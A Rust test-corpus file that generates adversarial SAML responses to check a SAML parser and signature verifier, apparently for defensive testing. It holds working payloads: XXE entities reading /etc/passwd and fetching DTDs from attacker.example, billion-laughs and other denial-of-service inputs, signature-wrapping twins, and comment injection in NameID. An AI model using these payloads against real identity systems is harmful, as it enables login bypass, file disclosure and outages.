//! XML that two readers could read differently, or that takes a reader long.

use super::Set;
use crate::idp::{EMAIL, assertion, cut, evil, swap, tampered, with_signed_assertion};

const NAME: &str = ">alice@example.org</saml:NameID>";

fn good() -> String {
    with_signed_assertion(str::to_owned)
}

pub(super) fn add(set: &mut Set) {
    attributes(set);
    namespaces(set);
    hidden(set);
    document_types(set);
    encodings(set);
    heavy(set);
    malformed(set);
}

fn attributes(set: &mut Set) {
    let good = good();
    for (name, attribute) in [
        ("pollution-ns-id", "xmlns:x=\"urn:x\" x:ID=\"_assertion1\""),
        ("pollution-Id", "Id=\"_assertion1\""),
        ("pollution-id", "id=\"_assertion1\""),
        ("pollution-xmlid", "xml:id=\"_assertion1\""),
        ("pollution-AssertionID", "AssertionID=\"_assertion1\""),
        ("duplicate-xml", "ID=\"_response2\""),
    ] {
        set.add(format!("attr-{name}"), swap(&good, "<samlp:Response ", &format!("<samlp:Response {attribute} ")));
    }
    let twin = evil(cut(&good, "<saml:Assertion ", "</saml:Assertion>")).replace("_evil1", "&#95;assertion1");
    set.add("attr-id-charref", swap(&good, "<saml:Assertion ", &format!("{twin}<saml:Assertion ")));
}

fn namespaces(set: &mut Set) {
    let good = good();
    let foreign = |namespace: &str| {
        evil(cut(&good, "<saml:Assertion ", "</saml:Assertion>")).replace("urn:oasis:names:tc:SAML:2.0:assertion", namespace)
    };
    set.add("ns-evil-assertion-first", swap(&good, "<saml:Assertion ", &format!("{}<saml:Assertion ", foreign("urn:evil"))));
    set.add(
        "ns-saml1-assertion-after",
        swap(&good, "</samlp:Response>", &format!("{}</samlp:Response>", foreign("urn:oasis:names:tc:SAML:1.0:assertion"))),
    );
    let bare = evil(&assertion()).replace("urn:oasis:names:tc:SAML:2.0:assertion", "urn:evil");
    set.add("ns-evil-assertion-unsigned", swap(&good, "<saml:Assertion ", &format!("{bare}<saml:Assertion ")));
    set.add("ns-signature-wrong-ns", good.replace("http://www.w3.org/2000/09/xmldsig#\"", "urn:evil\""));
    set.add("ns-redeclared-tampered", swap(&good, "<saml:Subject>", "<saml:Subject xmlns:saml=\"urn:evil\">"));
    set.add("ns-unused-decl-added", swap(&good, "<saml:Subject>", "<saml:Subject xmlns:unused=\"urn:unused\">"));
    set.add("ns-default-decl-added", swap(&good, "<saml:Assertion ", "<saml:Assertion xmlns=\"urn:unused\" "));
}

fn hidden(set: &mut Set) {
    let good = good();
    set.add("comment-nameid", swap(&good, NAME, ">alice@example.org<!---->.evil.example</saml:NameID>"));
    set.add("comment-nameid-prefix", swap(&good, NAME, "><!-- x -->alice@example.org</saml:NameID>"));
    set.add("comment-attribute", swap(&good, "<saml:AttributeValue>alice", "<saml:AttributeValue>al<!---->ice"));
    set.add("comment-cdata-nameid", swap(&good, NAME, "><![CDATA[alice]]><!---->@example.org</saml:NameID>"));
    set.add("comment-audience", swap(&good, ">urn:postern:acme<", ">urn:postern:<!---->acme<"));
    set.add("comment-issuer", swap(&good, "\">https://idp.example/md<", "\">https://<!---->idp.example/md<"));
    set.add("pi-nameid", swap(&good, NAME, ">alice<?x y?>@example.org</saml:NameID>"));
    let name = |to: &str| with_signed_assertion(|text| swap(text, NAME, to));
    set.add("element-in-nameid", name(">alice@example.org<saml:X></saml:X></saml:NameID>"));
    set.add("whitespace-nameid", name("> alice@example.org\n</saml:NameID>"));
}

fn document_types(set: &mut Set) {
    let good = good();
    let prefixed = |dtd: &str, message: &str| format!("<!DOCTYPE samlp:Response {dtd}>{message}");
    let entity = swap(&good, NAME, ">&who;</saml:NameID>");
    set.add("dtd-empty", prefixed("", &good));
    set.add("dtd-entity", prefixed(&format!("[<!ENTITY who \"{EMAIL}\">]"), &entity));
    set.add("dtd-entity-tamper", prefixed("[<!ENTITY who \"admin@example.org\">]", &entity));
    let lols: String = (1..10).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
    set.add("dtd-billion-laughs", prefixed(&format!("[<!ENTITY l0 \"lol\">{lols}<!ENTITY who \"&l9;\">]"), &entity));
    set.add("dtd-quadratic", prefixed(&format!("[<!ENTITY who \"{}\">]", "a".repeat(50_000)), &entity));
    set.add("dtd-external-file", prefixed("[<!ENTITY who SYSTEM \"file:///etc/passwd\">]", &entity));
    set.add("dtd-external-subset", prefixed("SYSTEM \"http://attacker.example/x.dtd\"", &good));
    set.add("dtd-param-entity", prefixed("[<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]", &good));
    set.add("dtd-attlist-id", prefixed("[<!ATTLIST saml:Assertion x ID #IMPLIED>]", &good));
    set.add("dtd-hidden-markup", prefixed("[<!ENTITY x '\"]><a>'>]", &good));
    set.add(
        "dtd-entity-in-reference-uri",
        prefixed("[<!ENTITY id \"_assertion1\">]", &swap(&good, "URI=\"#_assertion1\"", "URI=\"#&id;\"")),
    );
    set.add("entity-undefined", entity);
}

fn encodings(set: &mut Set) {
    let good = good();
    let utf16: Vec<u8> = [0xFF, 0xFE].into_iter().chain(good.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    set.add("enc-utf16", utf16);
    set.add("enc-decl-latin1", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{good}"));
    set.add("enc-decl-1.1", format!("<?xml version=\"1.1\"?>{good}"));
}

fn heavy(set: &mut Set) {
    let good = good();
    set.add("dos-deep-nesting", "<a>".repeat(50_000));
    let deep = format!("<samlp:Extensions>{}{}</samlp:Extensions><samlp:Status>", "<a>".repeat(5000), "</a>".repeat(5000));
    set.add("dos-deep-in-valid", swap(&good, "<samlp:Status>", &deep));
    let many: String = (0..20_000).map(|at| format!(" a{at}=\"\"")).collect();
    set.add("dos-many-attrs", swap(&good, "<samlp:Response", &format!("<samlp:Response{many}")));
    let spaces: String = (0..10_000).map(|at| format!(" xmlns:n{at}=\"u:{at}\"")).collect();
    set.add("dos-many-ns", swap(&good, "<samlp:Response", &format!("<samlp:Response{spaces}")));
    let open: String =
        (0..35).map(|level| format!("<a{}>", (0..30).map(|at| format!(" xmlns:n{level}x{at}=\"u\"")).collect::<String>())).collect();
    set.add("dos-nested-ns", format!("<x>{open}{}</x>", "</a>".repeat(35)));
    let signature = cut(&good, "<ds:Signature ", "</ds:Signature>");
    let small = signature.replace(cut(signature, "<ds:KeyInfo>", "</ds:KeyInfo>"), "");
    set.add("dos-many-signatures", swap(&good, signature, &small.repeat(150)));
    let reference = cut(signature, "<ds:Reference", "</ds:Reference>");
    set.add("dos-many-references", swap(&good, reference, &reference.repeat(300)));
    set.add("dos-10mb-text", swap(&good, NAME, &format!(">{}</saml:NameID>", "a".repeat(10_000_000))));
    set.add(
        "dos-many-elements",
        swap(&good, "<samlp:Status>", &format!("<samlp:Extensions>{}</samlp:Extensions><samlp:Status>", "<a/>".repeat(40_000))),
    );
    let long = "u".repeat(60_000);
    let grown = format!("<saml:Advice><y xmlns:x=\"urn:{long}\">{}</y></saml:Advice><saml:AuthnStatement ", "<x:a/>".repeat(3000));
    set.add("dos-canonical-growth", swap(&good, "<saml:AuthnStatement ", &grown));
    set.add("dos-bad-utf8", [b"<a>\xFF\xFE</a>".to_vec(), good.clone().into_bytes()].concat());
    set.add("dos-nul", swap(&good, NAME, ">alice\0@example.org</saml:NameID>"));
    set.add("dos-empty", "");
    set.add("dos-notxml", "hello");
    set.add("dos-unclosed", good.trim_end_matches("</samlp:Response>").to_owned());
}

fn malformed(set: &mut Set) {
    let good = good();
    let bad = evil(&good);
    set.add("parser-text-after-root", format!("{good}text"));
    set.add("parser-two-roots", format!("{good}{bad}"));
    set.add("parser-two-roots-evil-first", format!("{bad}{good}"));
    set.add("parser-comment-double-dash", swap(&good, NAME, "><!-- -- -->alice@example.org</saml:NameID>"));
    set.add("parser-attr-lt", swap(&good, "Name=\"email\"", "Name=\"email\" X=\"<\""));
    set.add("parser-undeclared-prefix", swap(&good, "<saml:Subject>", "<evil:x></evil:x><saml:Subject>"));
    set.add("parser-cdata-end-in-text", swap(&good, NAME, ">alice]]>@example.org</saml:NameID>"));
    set.add("parser-mismatched-end", swap(&good, "</saml:NameID>", "</saml:Name>"));
    set.add("parser-pi-xml-middle", swap(&good, "<samlp:Status>", "<?xml version=\"1.0\"?><samlp:Status>"));
    set.add("parser-control-char", swap(&good, NAME, ">alice\u{1}@example.org</saml:NameID>"));
    let assertion = cut(&good, "<saml:Assertion ", "</saml:Assertion>");
    set.add("parser-cdata-hides-assertion", swap(&good, assertion, &format!("<![CDATA[{assertion}]]>{}", tampered(assertion))));
    set.add("parser-comment-hides-assertion", swap(&good, assertion, &format!("<!--{assertion}-->{}", tampered(assertion))));
}
